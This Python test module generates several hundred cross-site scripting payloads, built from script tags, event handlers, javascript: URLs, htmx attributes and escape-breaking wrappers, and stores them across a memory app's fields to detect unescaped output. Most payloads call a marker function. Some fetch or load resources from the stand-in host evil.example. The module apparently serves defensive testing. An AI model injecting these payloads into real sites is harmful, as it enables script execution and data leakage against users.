"""Texts that run a script in a page that shows them unescaped; each holds its number, and calls `tacit_ran` with it."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice, product
from shlex import quote

_CALLS = ("tacit_ran({n})", "top.tacit_ran({n})", "window['tacit_ran']({n})", "fetch('//evil.example/{n}')")
_SHAPES = (
    "<script>{call}</script>", "<ScRiPt>{call}//", "<img src=x onerror={call}>", "<img/src=x/onerror={call}//",
    "<svg onload={call}>", "<svg><script>{call}</script></svg>", "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>", "<iframe srcdoc='<script>{call}</script>'>", "<iframe src=javascript:{call}>",
    "<a href=javascript:{call}>x</a>", "<a href='java\tscript:{call}'>x</a>", "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>", "<video><source onerror={call}>", "<math><mtext><img src=x onerror={call}>",
    "<object data='data:text/html,<script>{call}</script>'>", "<embed src=javascript:{call}>",
    "<form action=javascript:{call}><button>x</button></form>", "<button hx-get=/x hx-on:click={call} hx-trigger=load>",
    "<div hx-on::load={call} hx-get='//evil.example/{n}' hx-trigger=load>", "<div data-hx-get=x data-hx-trigger=load>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>@import '//evil.example/{n}'</style>",
    "<p style=background:url(//evil.example/{n})>", "<template><script>{call}</script></template>",
)  # fmt: skip
_AROUND = (
    "{0}",
    '"><{0}',
    "'>{0}",
    "</textarea>{0}",
    "</title>{0}",
    "-->{0}<!--",
    "]]>{0}",
    "{{{{{0}}}}}",
    "{{%{0}%}}",
)


def payloads(most: int = 500) -> list[str]:
    """Return that many texts, no two alike."""
    return list(islice(_made(), most))


def _made() -> Iterator[str]:
    for number, (around, call, shape) in enumerate(product(_AROUND, _CALLS, _SHAPES)):
        said = shape.replace("{call}", call).replace("{n}", str(number))
        yield around.format(f"x{number}:{said}")


def store(memory, texts: list[str]) -> dict[str, list[str]]:
    """Keep texts in every kind of field that a page shows; give the ids of what was made, by kind."""
    from tacit.model.lesson import Narrative

    left = iter(texts)
    made: dict[str, list[str]] = {"lesson": [], "procedure": [], "note": [], "fact": []}
    for number in range(10):
        told = Narrative(trigger=next(left)[:140], failure_mode=next(left)[:200], correction=next(left)[:200])
        made["lesson"].append(memory.lessons.create(f"{number} {next(left)}", narrative=told).id)
        record = memory.procedures.record(
            f"{number} {next(left)}",
            description=next(left),
            steps=[f"echo {quote(next(left))}" for _ in range(2)],
            triggers=[next(left)],
        )
        made["procedure"].append(record.id)
        memory.procedures.failure(record.id, note=next(left))
    about = memory.memorize(next(left), entity=("service", next(left)[:100]), tags=[next(left)[:60]])
    made["fact"].append(about.id)
    memory.revise(about.id, body=next(left))
    rest = list(left)
    items = [
        {"kind": "note", "title": rest[at], "body": "\n".join(rest[at + 1 : at + 6]), "tags": [rest[at][:60]]}
        for at in range(0, len(rest), 6)
    ]
    made["note"] = list(memory.add_many(items))
    return made
